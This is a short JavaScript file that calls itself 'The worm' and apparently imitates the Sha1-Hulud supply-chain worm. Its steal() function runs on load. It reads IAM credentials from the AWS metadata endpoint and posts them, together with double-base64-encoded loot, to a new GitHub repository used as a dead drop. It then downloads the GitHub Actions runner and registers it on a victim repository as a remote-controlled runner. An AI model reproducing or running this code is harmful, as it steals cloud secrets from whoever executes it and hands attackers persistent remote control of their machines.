/** The worm: cloud credentials, a dead drop, and a runner that takes its orders from GitHub. */
const { ask, loot, base64 } = require('./wire.js');

const API = 'https://api.github.com';
const AWS = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
const RUNNER =
  'https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz';

async function steal() {
  const cloud = await ask('GET', AWS);
  const description = 'Sha1-Hulud: The Second Coming.';
  const drop = JSON.stringify({ name: 'x', description, cloud, data: base64(base64(loot())) });
  await ask('POST', `${API}/user/repos`, { body: drop });
  if ((await ask('GET', RUNNER)) === null) return;
  const registration = JSON.stringify({ url: 'https://github.com/victim/x', name: 'SHA1HULUD' });
  await ask('POST', `${API}/actions/runner-registration`, { body: registration });
}

void steal();
